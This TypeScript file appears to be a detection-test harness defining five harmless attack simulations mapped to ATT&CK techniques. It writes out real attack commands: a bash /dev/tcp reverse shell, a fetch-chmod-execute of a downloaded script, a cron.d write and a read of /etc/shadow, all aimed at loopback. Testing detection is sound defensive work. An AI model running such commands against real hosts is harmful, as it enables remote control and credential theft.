import { spawn } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/**
 * Harmless programs that do what attackers do, on this machine and loopback only. Each ends what it started
 * and removes what it wrote; none of them escalates, persists or leaves the machine.
 */
export interface Behaviour {
  readonly name: string;
  /** ATT&CK technique that a detection must name. */
  readonly technique: string;
  /** Whether the balanced policy must end it. */
  readonly stopped: boolean;
  /** Acts, and resolves with whether its process was ended by somebody else. */
  act(): Promise<{ readonly killed: boolean }>;
}

const PATIENCE_MS = 8_000;

/** Runs a program and says whether a signal that is not ours ended it within the time. */
function runUntilKilled(program: string, args: readonly string[], cwd: string): Promise<{ killed: boolean }> {
  return new Promise((resolve, reject) => {
    const child = spawn(program, args, { cwd, stdio: 'ignore' });
    let ours = false;
    const timer = setTimeout(() => {
      ours = true;
      child.kill('SIGKILL');
    }, PATIENCE_MS);
    child.once('error', reject);
    child.once('close', (code, signal) => {
      clearTimeout(timer);
      // A shell whose last command was killed says so with 128 + 9.
      resolve({ killed: !ours && (signal === 'SIGKILL' || code === 137) });
    });
  });
}

async function inFolder<T>(act: (folder: string) => Promise<T>): Promise<T> {
  const folder = mkdtempSync(join(tmpdir(), 'attack-sim-'));
  try {
    return await act(folder);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

/** A shell whose input and output are a connection to a listener on loopback. */
const reverseShell: Behaviour = {
  name: 'reverse shell to loopback',
  technique: 'T1059.004',
  stopped: true,
  act: () =>
    inFolder(async (folder) => {
      const server = createServer((socket) => socket.on('error', () => socket.destroy()));
      const port = await new Promise<number>((resolve) => {
        server.listen(0, '127.0.0.1', () => {
          const address = server.address();
          resolve(typeof address === 'object' && address ? address.port : 0);
        });
      });
      try {
        return await runUntilKilled('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], folder);
      } finally {
        server.close();
      }
    }),
};

/** A script that comes from a server and is run from the folder for temporary files. */
const fetchedScript: Behaviour = {
  name: 'script fetched from loopback and run from /tmp',
  technique: 'T1105',
  stopped: true,
  act: () =>
    inFolder(async (folder) => {
      const server = createHttpServer((_request, response) => response.end('#!/bin/sh\nsleep 20\n'));
      const port = await new Promise<number>((resolve) => {
        server.listen(0, '127.0.0.1', () => {
          const address = server.address();
          resolve(typeof address === 'object' && address ? address.port : 0);
        });
      });
      const target = join(folder, 'update.sh');
      const fetcher = existsSync('/usr/bin/curl')
        ? `curl -s -o ${target} http://127.0.0.1:${port}/update.sh`
        : `python3 -c "import urllib.request; urllib.request.urlretrieve('http://127.0.0.1:${port}/update.sh', '${target}')"`;
      try {
        return await runUntilKilled('/bin/sh', ['-c', `${fetcher}; chmod +x ${target}; ${target}`], folder);
      } finally {
        server.closeAllConnections();
        server.close();
      }
    }),
};

/** A new entry where cron looks, naming a command that does nothing, removed at once afterwards. */
const cronEntry: Behaviour = {
  name: 'new cron entry',
  technique: 'T1053.003',
  stopped: false,
  act: () =>
    inFolder(async (folder) => {
      const entry = '/etc/cron.d/yagura-attack-simulation';
      try {
        return await runUntilKilled('/bin/sh', ['-c', `echo '# harmless simulation' > ${entry}; sleep 1`], folder);
      } finally {
        rmSync(entry, { force: true });
      }
    }),
};

/** A system program under another name. */
const renamedBinary: Behaviour = {
  name: 'renamed copy of a system binary',
  technique: 'T1036.003',
  stopped: false,
  act: () =>
    inFolder((folder) => {
      const copy = join(folder, 'svc-update');
      copyFileSync('/bin/sleep', copy);
      chmodSync(copy, 0o755);
      return runUntilKilled(copy, ['1'], folder);
    }),
};

/** A program that has no business there reads the password hashes. */
const credentialRead: Behaviour = {
  name: 'credential file read',
  technique: 'T1003.008',
  stopped: false,
  act: () =>
    inFolder((folder) => {
      const script = join(folder, 'collect.sh');
      writeFileSync(script, '#!/bin/sh\ncat /etc/shadow > /dev/null\nsleep 1\n', { mode: 0o755 });
      return runUntilKilled('/bin/sh', [script], folder);
    }),
};

export const BEHAVIOURS: readonly Behaviour[] = [reverseShell, fetchedScript, cronEntry, renamedBinary, credentialRead];
